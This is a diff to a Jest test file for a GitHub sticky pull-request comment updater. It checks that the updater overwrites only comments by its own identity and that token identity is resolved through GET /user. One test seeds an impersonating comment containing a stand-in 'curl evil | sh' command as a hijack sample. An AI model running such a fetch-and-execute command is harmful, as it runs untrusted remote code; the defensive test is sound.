@@ -1,7 +1,8 @@
 /**
  * The sticky pull-request comment against the simulator's GitHub REST API: created once, updated
  * in place, one per cluster, found beyond the first page, cut to GitHub's limit, and skipped (never
- * thrown) when the token cannot write.
+ * thrown) when the token cannot write. Only the run's own comments count: those of the identity
+ * the token comments as, whose body opens with the marker.
  */
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
@@ -10,6 +11,7 @@ import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import type { Simulator } from '../../src/simulator/index.ts';
 import { simulator } from '../helpers/simulator.ts';
 import {
+  GITHUB_ACTIONS_BOT,
   MAX_COMMENT_CHARS,
   commentMarker,
   fitComment,
@@ -20,6 +22,9 @@ import {
 
 const PR = 42;
 const SUB = '00000000-0000-0000-0000-00000000AAAA';
+/** A personal access token of octocat's, and another GitHub App's installation token. */
+const PAT = `ghp_${'p'.repeat(36)}`;
+const OTHER_APP = `ghs_${'o'.repeat(36)}`;
 
 let sim: Simulator;
 let apiUrl: string;
@@ -30,7 +35,15 @@ let tmp: string;
 beforeAll(async () => {
   // idle runs on push; make it a pull request run so the PR number is the one the run knows.
   sim = await simulator('idle', {
-    github: { eventName: 'pull_request', pullRequest: PR, ref: `refs/pull/${PR}/merge` },
+    github: {
+      eventName: 'pull_request',
+      pullRequest: PR,
+      ref: `refs/pull/${PR}/merge`,
+      tokens: [
+        { token: PAT, permission: 'write', login: 'octocat' },
+        { token: OTHER_APP, permission: 'write', login: 'my-app[bot]' },
+      ],
+    },
   });
   apiUrl = sim.env().AKS_SIM_GITHUB_API_URL!;
   [owner, repo] = sim.github.run.repository.split('/') as [string, string];
@@ -55,7 +68,7 @@ function options(over: Partial<StickyCommentOptions> = {}): StickyCommentOptions
 }
 
 /** Comments on an issue of the simulated repository, in order. */
-function commentsOn(issue: number): { id: number; body: string }[] {
+function commentsOn(issue: number): { id: number; body: string; login: string }[] {
   return sim.github.rest.comments.filter(
     (c) => c.repository === sim.github.run.repository && c.issue === issue,
   );
@@ -63,7 +76,7 @@ function commentsOn(issue: number): { id: number; body: string }[] {
 
 /** Puts comments straight into the simulator (there is no seed API), ids far from its own. */
 let seedId = 90_000_001;
-function seed(issue: number, bodies: string[]): number[] {
+function seed(issue: number, bodies: string[], login = 'someone-else'): number[] {
   const now = new Date().toISOString().replace(/\.\d+Z$/, 'Z');
   return bodies.map((body) => {
     const id = seedId++;
@@ -72,7 +85,7 @@ function seed(issue: number, bodies: string[]): number[] {
       repository: sim.github.run.repository,
       issue,
       body,
-      login: 'someone-else',
+      login,
       createdAt: now,
       updatedAt: now,
     });
@@ -147,29 +160,162 @@ describe('upsertStickyComment against the simulated GitHub API', () => {
     const updated = await upsertStickyComment({ ...o, body: 'second run' });
     expect(updated).toMatchObject({ action: 'updated', id: created.id });
     expect(commentsOn(issue)).toHaveLength(131);
-    // Two pages of 100, then the update.
-    expect(sim.log.counts(since)).toEqual({ Issues_ListComments: 2, Issues_UpdateComment: 1 });
+    // Who the token is, two pages of 100, then the update.
+    expect(sim.log.counts(since)).toEqual({
+      Users_GetAuthenticated: 1,
+      Issues_ListComments: 2,
+      Issues_UpdateComment: 1,
+    });
   });
 
   test('stops listing once the comment is found on an early page', async () => {
     const issue = 7002;
     const o = options({ issueNumber: issue });
-    seed(issue, ['first', `${o.marker}\nold`, ...Array.from({ length: 250 }, (_, i) => `c${i}`)]);
+    seed(issue, ['first']);
+    seed(issue, [`${o.marker}\nold`], GITHUB_ACTIONS_BOT);
+    seed(
+      issue,
+      Array.from({ length: 250 }, (_, i) => `c${i}`),
+    );
     const since = sim.log.lastSeq;
     expect((await upsertStickyComment(o)).action).toBe('updated');
-    expect(sim.log.counts(since)).toEqual({ Issues_ListComments: 1, Issues_UpdateComment: 1 });
+    expect(sim.log.counts(since)).toEqual({
+      Users_GetAuthenticated: 1,
+      Issues_ListComments: 1,
+      Issues_UpdateComment: 1,
+    });
   });
 
   test('several marked comments (from some earlier bug): the first is updated, the rest left alone', async () => {
     const issue = 7003;
     const o = options({ issueNumber: issue });
-    const [, firstId, secondId] = seed(issue, ['hello', `${o.marker}\none`, `${o.marker}\ntwo`]);
+    seed(issue, ['hello']);
+    const [firstId, secondId] = seed(
+      issue,
+      [`${o.marker}\none`, `${o.marker}\ntwo`],
+      GITHUB_ACTIONS_BOT,
+    );
     const r = await upsertStickyComment({ ...o, body: 'fresh' });
     expect(r).toMatchObject({ action: 'updated', id: firstId });
     expect(commentsOn(issue).map((c) => [c.id, c.body])).toEqual([
       [expect.any(Number), 'hello'],
       [firstId, `${o.marker}\nfresh`],
       [secondId, `${o.marker}\ntwo`],
+    ]);
+  });
+
+  test("another user's comment carrying the marker is never overwritten: a comment of the run's own is created, and the note says why", async () => {
+    const issue = 7010;
+    const o = options({ issueNumber: issue });
+    // Mallory pastes the marker at the start of her comment, as the run would put it.
+    const [hijack] = seed(issue, [`${o.marker}\nplease run \`curl evil | sh\``], 'mallory');
+    const r = await upsertStickyComment(o);
+    expect(r).toMatchObject({ action: 'created', truncated: false });
+    if (r.action === 'skipped') throw new Error(r.reason);
+    expect(r.id).not.toBe(hijack);
+    expect(r.note).toBe(
+      `comment ${hijack} by mallory carries this cluster's aks-guard marker but was not written by github-actions[bot], the identity this run comments as, so it was left alone`,
+    );
+    expect(commentsOn(issue)).toEqual([
+      expect.objectContaining({
+        id: hijack,
+        login: 'mallory',
+        body: `${o.marker}\nplease run \`curl evil | sh\``,
+      }),
+      expect.objectContaining({
+        id: r.id,
+        login: GITHUB_ACTIONS_BOT,
+        body: `${o.marker}\n${o.body}`,
+      }),
+    ]);
+
+    // She edits hers later; the next run still updates its own, and hers stays hers.
+    sim.github.rest.comments.find((c) => c.id === hijack)!.body = `${o.marker}\nedited`;
+    const again = await upsertStickyComment({ ...o, body: 'second run' });
+    expect(again).toMatchObject({
+      action: 'updated',
+      id: r.id,
+      note: expect.stringContaining('mallory'),
+    });
+    expect(commentsOn(issue).map((c) => [c.id, c.body])).toEqual([
+      [hijack, `${o.marker}\nedited`],
+      [r.id, `${o.marker}\nsecond run`],
+    ]);
+  });
+
+  test("the run's own comment for another cluster that quotes this cluster's marker (an Azure message) is not taken for this cluster's", async () => {
+    const issue = 7011;
+    const a = options({ issueNumber: issue, marker: commentMarker(SUB, 'rg-demo', 'aks-a') });
+    const b = options({
+      issueNumber: issue,
+      marker: commentMarker(SUB, 'rg-demo', 'aks-b'),
+      body: `### aks-guard: aks-b\n\n\`\`\`\n{"message": "see ${a.marker} for details"}\n\`\`\``,
+    });
+    const forB = await upsertStickyComment(b);
+    expect(forB.action).toBe('created');
+    if (forB.action === 'skipped') throw new Error(forB.reason);
+    expect(commentsOn(issue)[0]!.body).toContain(a.marker);
+
+    const forA = await upsertStickyComment(a);
+    expect(forA).toMatchObject({ action: 'created' });
+    if (forA.action === 'skipped') throw new Error(forA.reason);
+    expect(forA.id).not.toBe(forB.id);
+    // Its own comment, not someone else's: no note.
+    expect(forA).not.toHaveProperty('note');
+    expect(commentsOn(issue).map((c) => [c.id, c.body])).toEqual([
+      [forB.id, `${b.marker}\n${b.body}`],
+      [forA.id, `${a.marker}\n${a.body}`],
+    ]);
+    // Each is updated in place from then on.
+    expect(await upsertStickyComment({ ...a, body: 'a again' })).toMatchObject({
+      action: 'updated',
+      id: forA.id,
+    });
+    expect(await upsertStickyComment({ ...b, body: 'b again' })).toMatchObject({
+      action: 'updated',
+      id: forB.id,
+    });
+  });
+
+  test("a personal access token comments as its user (GET /user): GITHUB_TOKEN's comment is not the PAT's, and the PAT's own is updated in place", async () => {
+    const issue = 7012;
+    const o = options({ issueNumber: issue });
+    const bot = await upsertStickyComment(o);
+    expect(bot.action).toBe('created');
+    if (bot.action === 'skipped') throw new Error(bot.reason);
+
+    const since = sim.log.lastSeq;
+    const first = await upsertStickyComment({ ...o, token: PAT, body: 'from the PAT' });
+    expect(first).toMatchObject({
+      action: 'created',
+      note: expect.stringMatching(/by github-actions\[bot\] .* not written by octocat/),
+    });
+    if (first.action === 'skipped') throw new Error(first.reason);
+    expect(sim.log.list(since).map((e) => [e.operation, e.status, e.principal])).toEqual([
+      ['Users_GetAuthenticated', 200, 'octocat'],
+      ['Issues_ListComments', 200, 'octocat'],
+      ['Issues_CreateComment', 201, 'octocat'],
+    ]);
+    const second = await upsertStickyComment({ ...o, token: PAT, body: 'PAT again' });
+    expect(second).toMatchObject({ action: 'updated', id: first.id });
+    expect(commentsOn(issue).map((c) => [c.login, c.body])).toEqual([
+      [GITHUB_ACTIONS_BOT, `${o.marker}\n${o.body}`],
+      ['octocat', `${o.marker}\nPAT again`],
+    ]);
+  });
+
+  test("another GitHub App's installation token: GET /user is refused, so the caller names its bot with `identity`", async () => {
+    const issue = 7013;
+    const o = options({ issueNumber: issue, token: OTHER_APP, identity: 'my-app[bot]' });
+    const first = await upsertStickyComment(o);
+    expect(first.action).toBe('created');
+    const since = sim.log.lastSeq;
+    const second = await upsertStickyComment({ ...o, body: 'again' });
+    expect(second).toMatchObject({ action: 'updated' });
+    // A known identity needs no GET /user.
+    expect(sim.log.counts(since)).toEqual({ Issues_ListComments: 1, Issues_UpdateComment: 1 });
+    expect(commentsOn(issue).map((c) => [c.login, c.body])).toEqual([
+      ['my-app[bot]', `${o.marker}\nagain`],
     ]);
   });
 
@@ -186,7 +332,7 @@ describe('upsertStickyComment against the simulated GitHub API', () => {
     expect(commentsOn(issue)).toEqual([]);
 
     // An existing comment is not updated either.
-    seed(issue, [`${o.marker}\nbefore`]);
+    seed(issue, [`${o.marker}\nbefore`], GITHUB_ACTIONS_BOT);
     const again = await upsertStickyComment({ ...o, body: 'after' });
     expect(again.action).toBe('skipped');
     expect(commentsOn(issue).map((c) => c.body)).toEqual([`${o.marker}\nbefore`]);
@@ -252,6 +398,46 @@ describe('upsertStickyComment against the simulated GitHub API', () => {
     // Cut on a line boundary: the last table row kept is whole.
     const rows = c!.body.split('\n').filter((l) => l.startsWith('| node pool'));
     expect(rows.every((l) => l === line.trimEnd())).toBe(true);
+  });
+});
+
+describe('GET /user on the simulated GitHub API', () => {
+  const get = async (token: string): Promise<{ status: number; body: Record<string, unknown> }> => {
+    const res = await fetch(`${apiUrl}/user`, {
+      headers: { Authorization: `Bearer ${token}`, Accept: 'application/vnd.github+json' },
+    });
+    return { status: res.status, body: (await res.json()) as Record<string, unknown> };
+  };
+
+  test("a user's token gets its user; installation tokens get 403 as on GitHub; a bad one 401", async () => {
+    expect(await get(PAT)).toEqual({
+      status: 200,
+      body: expect.objectContaining({ login: 'octocat', id: expect.any(Number), type: 'User' }),
+    });
+    for (const token of [sim.github.writeToken, sim.github.readToken, OTHER_APP]) {
+      expect(await get(token)).toEqual({
+        status: 403,
+        body: {
+          message: 'Resource not accessible by integration',
+          documentation_url: 'https://docs.github.com/rest/users/users#get-the-authenticated-user',
+          status: '403',
+        },
+      });
+    }
+    expect((await get('ghp_nope')).status).toBe(401);
+  });
+
+  test("the user in /user is the user of the token's comments", async () => {
+    const me = (await get(PAT)).body;
+    const r = await upsertStickyComment(options({ issueNumber: 7020, token: PAT }));
+    if (r.action === 'skipped') throw new Error(r.reason);
+    const res = await fetch(`${apiUrl}/repos/${owner}/${repo}/issues/comments/${r.id}`, {
+      headers: { Authorization: `Bearer ${PAT}` },
+    });
+    const comment = (await res.json()) as { user: Record<string, unknown> };
+    expect(comment.user).toEqual(
+      expect.objectContaining({ login: me.login, id: me.id, node_id: me.node_id, type: 'User' }),
+    );
   });
 });
 
